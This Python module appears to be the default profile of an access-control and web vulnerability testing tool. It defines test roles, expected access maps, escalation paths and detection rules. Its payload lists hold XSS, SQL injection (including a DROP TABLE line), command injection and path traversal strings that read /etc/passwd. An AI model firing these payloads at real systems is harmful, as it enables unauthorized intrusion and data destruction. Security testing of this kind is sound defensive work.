"""
Built-in profile
================
Roles, expected access, RBAC policy, payload sets and detection rules used
when a profile file does not override them. `roleprobe profile`
dumps this module to YAML as a starting point for custom profiles.
"""

from .models import Role, PayloadSet, VulnerabilityType, Severity, DetectionMethod
from .policy import (
    PermissionRule,
    PermissionLevel,
    RoleDefinition,
    EscalationPath,
    IsolationBoundary,
    BoundaryType,
)


# ═══════════════════════════════════════════════════════════════
# ROLES
# ═══════════════════════════════════════════════════════════════

DEFAULT_PASSWORD = "password"

ROLE_ACCOUNTS = [
    # (name, email, permissions, description)
    ("super_admin", "super@example.com", ["*"],
     "Super Administrator with full system access"),
    ("tenant_admin", "admin@example.com",
     ["tenant:*", "users:*", "roles:*", "modules:configure", "audit:view", "settings:*"],
     "Tenant Administrator with full tenant management access"),
    ("module_admin", "moduleadmin@acme.com",
     ["modules:configure", "users:view", "users:invite", "roles:view", "settings:view"],
     "Module Administrator with limited administrative access"),
    ("wms_user", "warehouse@acme.com",
     ["wms:*", "inventory:view", "inventory:edit", "reports:view", "dashboard:view"],
     "Warehouse Management System user with WMS-specific access"),
    ("accounting_user", "accounting@techcorp.com",
     ["accounting:*", "reports:*", "dashboard:view", "export:financial"],
     "Accounting user with financial module access"),
    ("readonly_user", "readonly@techcorp.com",
     ["*:view", "dashboard:view", "reports:view"],
     "Read-only user with view-only access to basic features"),
]

PRIORITY_ROLES = ["super_admin", "tenant_admin"]


# ═══════════════════════════════════════════════════════════════
# EXPECTED NAVIGATION ACCESS
# ═══════════════════════════════════════════════════════════════

EXPECTED_ACCESS = {
    "super_admin": [
        "/", "/admin", "/admin/modules", "/admin/users", "/admin/roles",
        "/admin/data-scopes", "/admin/audit", "/admin/settings", "/admin/tenants",
        "/admin/currencies", "/admin/integrations", "/debug",
    ],
    "tenant_admin": [
        "/", "/admin", "/admin/modules", "/admin/users", "/admin/roles",
        "/admin/data-scopes", "/admin/audit", "/admin/settings", "/admin/tenants",
        "/admin/currencies",
    ],
    "module_admin": ["/", "/admin", "/admin/modules", "/admin/users", "/admin/roles"],
    "wms_user": ["/", "/admin", "/admin/modules"],
    "accounting_user": ["/", "/admin", "/admin/modules", "/admin/currencies"],
    "readonly_user": ["/", "/admin"],
}

# Every role is seeded with every known route so over-permissive access shows up
KNOWN_PATHS = list(EXPECTED_ACCESS["super_admin"])


# ═══════════════════════════════════════════════════════════════
# ELEMENT VISIBILITY & API ACCESS
# ═══════════════════════════════════════════════════════════════

ROLE_ELEMENT_VISIBILITY = {
    "super_admin": {
        "visible": ['[data-testid="super-admin-panel"]', '[data-testid="global-settings"]',
                    '[data-testid="tenant-management"]', '[data-testid="system-monitoring"]'],
        "hidden": [],
    },
    "tenant_admin": {
        "visible": ['[data-testid="user-management"]', '[data-testid="role-management"]',
                    '[data-testid="module-configuration"]', '[data-testid="audit-logs"]',
                    '[data-testid="tenant-settings"]'],
        "hidden": ['[data-testid="super-admin-panel"]', '[data-testid="global-settings"]',
                   '[data-testid="system-monitoring"]'],
    },
    "module_admin": {
        "visible": ['[data-testid="module-configuration"]', '[data-testid="user-list-view"]'],
        "hidden": ['[data-testid="super-admin-panel"]', '[data-testid="global-settings"]',
                   '[data-testid="delete-user-button"]', '[data-testid="billing-management"]'],
    },
    "wms_user": {
        "visible": ['[data-testid="wms-dashboard"]', '[data-testid="inventory-management"]',
                    '[data-testid="warehouse-operations"]'],
        "hidden": ['[data-testid="user-management"]', '[data-testid="role-management"]',
                   '[data-testid="system-settings"]', '[data-testid="billing-management"]'],
    },
    "accounting_user": {
        "visible": ['[data-testid="accounting-dashboard"]', '[data-testid="financial-reports"]',
                    '[data-testid="currency-management"]'],
        "hidden": ['[data-testid="user-management"]', '[data-testid="wms-dashboard"]',
                   '[data-testid="hr-management"]'],
    },
    "readonly_user": {
        "visible": ['[data-testid="dashboard-view"]', '[data-testid="reports-view"]'],
        "hidden": ['[data-testid="create-button"]', '[data-testid="edit-button"]',
                   '[data-testid="delete-button"]', '[data-testid="user-management"]',
                   '[data-testid="role-management"]'],
    },
}

API_ACCESS_MATRIX = {
    "super_admin": {
        "allowed": ["GET /api/admin/*", "POST /api/admin/*", "PUT /api/admin/*",
                    "DELETE /api/admin/*", "GET /api/tenants/*", "POST /api/tenants/*"],
        "denied": [],
    },
    "tenant_admin": {
        "allowed": ["GET /api/tenants/*/users", "POST /api/tenants/*/users",
                    "PUT /api/tenants/*/users/*", "GET /api/tenants/*/roles",
                    "POST /api/tenants/*/roles"],
        "denied": ["GET /api/admin/tenants", "DELETE /api/admin/*", "POST /api/admin/modules"],
    },
    "wms_user": {
        "allowed": ["GET /api/wms/*", "POST /api/wms/inventory", "PUT /api/wms/inventory/*"],
        "denied": ["GET /api/admin/*", "POST /api/tenants/*", "DELETE /api/*"],
    },
    "readonly_user": {
        "allowed": ["GET /api/dashboard", "GET /api/reports"],
        "denied": ["POST /api/*", "PUT /api/*", "DELETE /api/*", "GET /api/admin/*"],
    },
}


# ═══════════════════════════════════════════════════════════════
# RBAC POLICY
# ═══════════════════════════════════════════════════════════════

ALL_ROLES = [name for name, *_ in ROLE_ACCOUNTS]

PERMISSION_RULES = [
    PermissionRule(
        resource="/admin/users",
        action="read",
        allowed_roles={"super_admin", "tenant_admin"},
        denied_roles={"wms_user", "accounting_user", "readonly_user"},
        permission_level=PermissionLevel.READ,
        requires_tenant_context=True,
        business_context="User management access",
    ),
    PermissionRule(
        resource="/admin/roles",
        action="write",
        allowed_roles={"super_admin"},
        denied_roles={"tenant_admin", "module_admin", "wms_user", "accounting_user", "readonly_user"},
        permission_level=PermissionLevel.ADMIN,
        business_context="Role configuration management",
    ),
    PermissionRule(
        resource="/dashboard",
        action="read",
        allowed_roles={"super_admin", "tenant_admin", "module_admin", "wms_user", "accounting_user"},
        denied_roles={"readonly_user"},
        permission_level=PermissionLevel.READ,
        requires_tenant_context=True,
        requires_data_scope=True,
        business_context="Dashboard access based on role",
    ),
    PermissionRule(
        resource="/api/sensitive-data",
        action="delete",
        allowed_roles={"super_admin"},
        denied_roles={"tenant_admin", "module_admin", "wms_user", "accounting_user", "readonly_user"},
        permission_level=PermissionLevel.DELETE,
        business_context="Critical data deletion operations",
    ),
]

ROLE_DEFINITIONS = [
    RoleDefinition("super_admin", 5, ["*"], ["global"], "global", True, ["tenant_admin"]),
    RoleDefinition("tenant_admin", 4, ["tenant_management", "user_management", "role_assignment"],
                   ["tenant"], "single", True, ["module_admin"]),
    RoleDefinition("module_admin", 3, ["module_access", "data_read", "data_write"],
                   ["module"], "single", False, ["wms_user", "accounting_user"]),
    RoleDefinition("wms_user", 2, ["wms_access", "data_read"],
                   ["department"], "single", False, ["readonly_user"]),
    RoleDefinition("accounting_user", 2, ["accounting_access", "financial_data"],
                   ["department"], "single", False, ["readonly_user"]),
    RoleDefinition("readonly_user", 1, ["basic_read"], ["personal"], "single", False, []),
]

ESCALATION_PATHS = [
    EscalationPath(
        from_role="readonly_user",
        to_role="wms_user",
        methods=["session_hijacking", "token_manipulation", "cookie_tampering"],
        vulnerability_type="horizontal",
        risk_level=Severity.MEDIUM,
        detection_signatures=["unexpected_permission_usage", "role_context_mismatch"],
    ),
    EscalationPath(
        from_role="wms_user",
        to_role="tenant_admin",
        methods=["privilege_escalation_api", "permission_bypass", "admin_impersonation"],
        vulnerability_type="vertical",
        risk_level=Severity.HIGH,
        detection_signatures=["admin_function_access", "elevated_permission_usage"],
    ),
    EscalationPath(
        from_role="tenant_admin",
        to_role="super_admin",
        methods=["tenant_boundary_bypass", "global_admin_exploitation"],
        vulnerability_type="vertical",
        risk_level=Severity.CRITICAL,
        detection_signatures=["cross_tenant_access", "global_admin_functions"],
    ),
]

ISOLATION_BOUNDARIES = [
    IsolationBoundary(
        boundary_type=BoundaryType.TENANT,
        enforcer="tenant_middleware",
        test_methods=["cross_tenant_access", "tenant_data_leakage", "shared_session_exploit"],
        bypass_techniques=["subdomain_manipulation", "tenant_id_manipulation", "session_fixation"],
        validation_rules=["tenant_context_validation", "data_scope_enforcement", "session_isolation"],
    ),
    IsolationBoundary(
        boundary_type=BoundaryType.ROLE,
        enforcer="rbac_middleware",
        test_methods=["role_impersonation", "permission_tampering", "context_switching"],
        bypass_techniques=["jwt_manipulation", "role_claim_injection", "permission_cache_poisoning"],
        validation_rules=["role_based_routing", "permission_enforcement", "context_validation"],
    ),
]


# ═══════════════════════════════════════════════════════════════
# PAYLOAD DEFINITIONS
# ═══════════════════════════════════════════════════════════════

XSS_PAYLOADS = [
    '<script>alert("XSS")</script>',
    '<img src=x onerror=alert("XSS")>',
    '<svg onload=alert("XSS")>',
    'javascript:alert("XSS")',
    '<iframe src="javascript:alert(\'XSS\')">',
    '<body onload=alert("XSS")>',
    '<input onfocus=alert("XSS") autofocus>',
    '<select onfocus=alert("XSS") autofocus>',
    '<textarea onfocus=alert("XSS") autofocus>',
    '<keygen onfocus=alert("XSS") autofocus>',
]

SQLI_PAYLOADS = [
    "' OR '1'='1",
    "' OR 1=1--",
    "' UNION SELECT NULL--",
    "'; DROP TABLE users--",
    "' OR 1=1#",
    "admin'--",
    "' OR 'a'='a",
    "1' OR '1'='1",
    "' OR '1'='1' /*",
    "x' AND 1=0 UNION SELECT TOP 1 name FROM sysobjects WHERE xtype='U",
]

CMDI_PAYLOADS = [
    "| whoami",
    "; whoami",
    "`whoami`",
    "$(whoami)",
    "&& whoami",
    "|| whoami",
    "| cat /etc/passwd",
    "; cat /etc/passwd",
    "`cat /etc/passwd`",
    "$(cat /etc/passwd)",
]

PATH_TRAVERSAL_PAYLOADS = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "../../../../../../../etc/passwd%00",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/var/www/../../etc/passwd",
    "C:\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "file:///etc/passwd",
]

PAYLOAD_SETS = [
    PayloadSet("XSS Basic", "xss", XSS_PAYLOADS,
               "Basic Cross-Site Scripting payloads", Severity.HIGH),
    PayloadSet("SQL Injection", "sqli", SQLI_PAYLOADS,
               "SQL Injection attack payloads", Severity.CRITICAL),
    PayloadSet("Command Injection", "cmdi", CMDI_PAYLOADS,
               "Command injection payloads", Severity.CRITICAL),
    PayloadSet("Path Traversal", "path_traversal", PATH_TRAVERSAL_PAYLOADS,
               "Directory traversal payloads", Severity.HIGH),
]

VULNERABILITY_TYPES = [
    VulnerabilityType("Cross-Site Scripting (XSS)", "xss", DetectionMethod.RESPONSE_ANALYSIS,
                      ["<script>", "alert(", "onerror=", "onload=", "javascript:"], Severity.HIGH),
    VulnerabilityType("SQL Injection", "sqli", DetectionMethod.ERROR_DETECTION,
                      ["SQL syntax error", "mysql_fetch", "ORA-", "Microsoft SQL", "PostgreSQL", "sqlite"],
                      Severity.CRITICAL),
    VulnerabilityType("Command Injection", "cmdi", DetectionMethod.RESPONSE_ANALYSIS,
                      ["uid=", "gid=", "root:", "cmd.exe", "command not found"], Severity.CRITICAL),
    VulnerabilityType("Path Traversal", "path_traversal", DetectionMethod.RESPONSE_ANALYSIS,
                      ["root:x:", "[boot loader]", "Windows Registry Editor"], Severity.HIGH),
]

# Categories where seeing the raw payload echoed back is itself the finding
REFLECTIVE_CATEGORIES = {"xss"}


def default_roles():
    return [
        Role(
            name=name,
            email=email,
            password=DEFAULT_PASSWORD,
            permissions=permissions,
            seed_paths=KNOWN_PATHS,
            description=description,
        )
        for name, email, permissions, description in ROLE_ACCOUNTS
    ]
